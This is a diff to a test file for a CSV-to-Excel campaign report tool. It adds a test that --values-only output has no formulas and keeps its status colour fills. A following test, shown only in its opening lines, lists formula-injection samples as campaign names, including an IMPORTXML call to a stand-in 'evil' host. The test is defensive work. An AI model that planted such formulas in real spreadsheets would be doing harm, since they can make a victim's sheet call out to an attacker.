@@ -175,6 +175,34 @@ describe('the same report whatever the file format', () => {
   });
 });
 
+describe('--values-only', () => {
+  it('writes numbers without formulas, statuses as fills', async () => {
+    const out = join(dir, 'values.xlsx');
+    const run = await report([
+      join(ROOT, 'examples/campaigns-en.csv'),
+      '--out',
+      out,
+      '--values-only',
+      '--profile',
+      'search',
+    ]);
+    expect(run.status).toBe(0);
+    const report0 = (await sheets(out)).worksheets[0] as ExcelJS.Worksheet;
+    let formulas = 0;
+    const fills = new Set<string>();
+    report0.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
+        const argb = (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
+        if (argb) fills.add(argb);
+      }),
+    );
+    expect(formulas).toBe(0);
+    // The example's CTR (2.48%) is poor and its conversion rate (5.93%) fair against search ads.
+    expect([...fills]).toEqual(expect.arrayContaining(['FFFFC7CE', 'FFFFEB9C']));
+  });
+});
+
 describe('text from the sheet stays text', () => {
   it('campaign names that look like formulas', async () => {
     const names = ['=IMPORTXML("http://evil","//a")', '+1', '-cmd', '@SUM(A1)'];
